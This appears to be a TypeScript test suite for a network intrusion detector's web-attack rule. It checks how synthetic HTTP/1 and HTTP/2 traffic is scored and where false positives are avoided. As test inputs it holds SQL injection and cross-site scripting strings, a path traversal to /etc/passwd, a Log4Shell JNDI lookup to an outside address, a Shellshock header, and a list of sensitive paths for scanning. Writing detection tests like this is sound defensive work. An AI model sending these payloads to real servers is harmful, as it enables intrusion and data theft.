import assert from 'node:assert/strict';
import { block, frame, preface } from '../../../../support/http2Frames';
import { concatBytes, httpRequest, httpResponse } from '../../../../support/packets';
import { Talk, atLeastMedium, findingsOf } from '../traffic';
import type { Timed } from '../traffic';

interface Sent {
  target?: string;
  headers?: Record<string, string>;
  form?: string;
  type?: string;
}

/** Each request on a connection of its own, `gap` seconds apart. */
function requests(sent: readonly Sent[], client = '10.0.0.66', gap = 1, status = 200): Timed[] {
  return sent.flatMap(({ target = '/', headers = {}, form, type = 'application/x-www-form-urlencoded' }, index) => {
    const talk = new Talk({ client, clientPort: 40000 + index, at: index * gap });
    const all =
      form === undefined ? headers : { ...headers, 'Content-Type': type, 'Content-Length': String(form.length) };
    talk.client(httpRequest(form === undefined ? 'GET' : 'POST', target, 'shop.test', all, form ?? ''));
    return talk.server(httpResponse(status, 'OK', 'x')).close().frames;
  });
}

const injection = (value: string): Sent => ({ target: `/item?id=${encodeURIComponent(value)}` });

describe('rule web-attack', () => {
  it('makes one finding of the attacks of one client on one server, and says all about it', () => {
    const found = findingsOf(
      requests([
        injection("1' OR '1'='1"),
        injection('1 UNION SELECT 1,2,3--'),
        { form: 'text=<script>alert(1)</script>' },
      ]),
    );
    assert.equal(found.length, 1);
    const finding = found[0]!;
    assert.deepEqual(
      [finding.rule, finding.threat, finding.severity, finding.count],
      ['web-attack', 'web-attack', 'medium', 3],
    );
    assert.deepEqual([finding.sources, finding.targets, finding.ports], [['10.0.0.66'], ['10.0.0.10'], [80]]);
    assert.equal(finding.title, 'SQL injection against 10.0.0.10 by 10.0.0.66');
    assert.match(finding.summary, /3 requests that look like SQL injection, cross-site scripting/);
    assert.match(finding.summary, /3 answered, 0 refused/);
    assert.ok(finding.packets.length >= 3 && finding.flows.length === 3 && finding.next.length > 0);
    assert.deepEqual(finding.mitre, ['T1190']);
    const rest = findingsOf(
      requests([injection('1 UNION SELECT 1,2,3--'), injection("' OR 'a'='a")], '10.0.0.66', 1, 403),
    );
    assert.ok(rest[0]!.against.some((text) => text.includes('refused')));
  });

  it('leaves one odd request below medium, and the same one again and again', () => {
    assert.deepEqual(atLeastMedium(findingsOf(requests([injection('1 OR 1=1')]))), []);
    const frames = requests(Array.from({ length: 30 }, () => injection('1 UNION SELECT 1,2,3--')));
    const same = findingsOf(frames, 'web-attack');
    assert.deepEqual(atLeastMedium(same), []);
    assert.ok(same[0]!.against.some((text) => text.includes('same text')));
  });

  it('takes one plain script or climbing path in an address for an attack, but not in a text', () => {
    for (const target of ['/?name=x%3Cscript%3Ealert(1)%3C/script%3E', '/../../../../etc/passwd']) {
      assert.equal(findingsOf(requests([{ target }]))[0]?.severity, 'medium', target);
    }
    const post = { form: 'text=How+do+I+use+<script>alert(1)</script>+safely?' };
    assert.deepEqual(atLeastMedium(findingsOf(requests([post]))), []);
  });

  it('looks into HTTP/2, where answers come in any order', () => {
    const ask = (stream: number, path: string): Uint8Array =>
      frame(1, 5, stream, block({ ':method': 'GET', ':path': path, ':authority': 'shop.test' }));
    const answer = (stream: number, status: string): Uint8Array => frame(1, 5, stream, block({ ':status': status }));
    const attack = '/item?id=1%20UNION%20SELECT%201,2,3--';
    const frames = new Talk({ client: '10.0.0.66' })
      .client(concatBytes([preface, frame(4, 0, 0, new Uint8Array(0)), ask(1, attack), ask(3, '/')]))
      .server(concatBytes([frame(4, 0, 0, new Uint8Array(0)), answer(3, '200'), answer(1, '403')]))
      .client(ask(5, "/item?id=1'%20OR%20'1'='1"))
      .server(answer(5, '403'))
      .close().frames;
    const [found] = findingsOf(frames, 'web-attack');
    assert.ok(found);
    assert.deepEqual([found.sources, found.count], [['10.0.0.66'], 2]);
    assert.match(found.summary, /0 answered, 2 refused/);
  });

  it('looks at JSON bodies, form fields and headers, and not into files', () => {
    const json = (text: string): Sent => ({ form: JSON.stringify({ name: text }), type: 'application/json' });
    assert.equal(findingsOf(requests([json('<svg/onload=alert(1)>'), json("' OR 'a'='a")]))[0]?.severity, 'medium');
    const agents = ['${jndi:ldap://198.51.100.7/a}', '() { :;}; /bin/sh -c id'];
    for (const agent of agents) {
      assert.equal(findingsOf(requests([{ headers: { 'User-Agent': agent } }]))[0]?.severity, 'medium', agent);
    }
    const upload = [
      '--boundary123',
      'Content-Disposition: form-data; name="file"; filename="page.html"',
      '',
      '<script>alert(1)</script> and <svg/onload=alert(1)>',
      '--boundary123--',
    ].join('\r\n');
    assert.deepEqual(findingsOf(requests([{ form: upload, type: 'multipart/form-data; boundary=boundary123' }])), []);
  });

  it('calls a tool that names itself low at first, and medium when it goes on', () => {
    const tool = { headers: { 'User-Agent': 'Mozilla/5.00 (Nikto/2.5.0)' } };
    assert.equal(findingsOf(requests(Array.from({ length: 5 }, () => tool)), 'web-attack')[0]?.severity, 'low');
    assert.equal(findingsOf(requests(Array.from({ length: 12 }, () => tool)), 'web-attack')[0]?.severity, 'medium');
  });

  it('takes a search for files that nobody links to for a scan, when they are not there', () => {
    const sought = '.git/config .env wp-login.php phpmyadmin/ server-status backup.zip db.sql shop/.htpasswd shell.php';
    const scan = sought.split(' ').map((path): Sent => ({ target: `/${path}` }));
    const found = findingsOf(requests(scan, '10.0.0.66', 0.2, 404), 'web-attack');
    assert.deepEqual(
      found.map(({ severity, sources, targets }) => [severity, sources, targets]),
      [['medium', ['10.0.0.66'], ['10.0.0.10']]],
    );
    assert.match(found[0]?.summary ?? '', /9 requests/);
    // Who runs such programs uses them, and a crawler meets links that are dead.
    assert.deepEqual(findingsOf(requests(scan), 'web-attack'), []);
    assert.deepEqual(findingsOf(requests(scan.slice(0, 3), '10.0.0.66', 0.2, 404), 'web-attack'), []);
    const crawler = Array.from({ length: 200 }, (_, index): Sent => ({ target: `/old/page${index}.php?id=${index}` }));
    assert.deepEqual(findingsOf(requests(crawler, '10.0.0.66', 0.05, 404), 'web-attack'), []);
  });

  it('calls many attacks high, and begins a new finding after a long quiet time', () => {
    const many = Array.from({ length: 12 }, (_, index) => injection(`${index} UNION SELECT 1,2,3--`));
    assert.equal(findingsOf(requests(many), 'web-attack')[0]?.severity, 'high');
    assert.equal(findingsOf(requests(many.slice(0, 4), '10.0.0.66', 700), 'web-attack').length, 4);
  });

  it('says nothing of ordinary requests', () => {
    const words = ["O'Reilly", 'select a union flag', 'C++ & C# -- which?', '5 < 6 and 7 > 2', '1=1 is true'];
    assert.deepEqual(
      findingsOf(requests(words.map((word) => ({ target: `/search?q=${encodeURIComponent(word)}` })))),
      [],
    );
  });
});
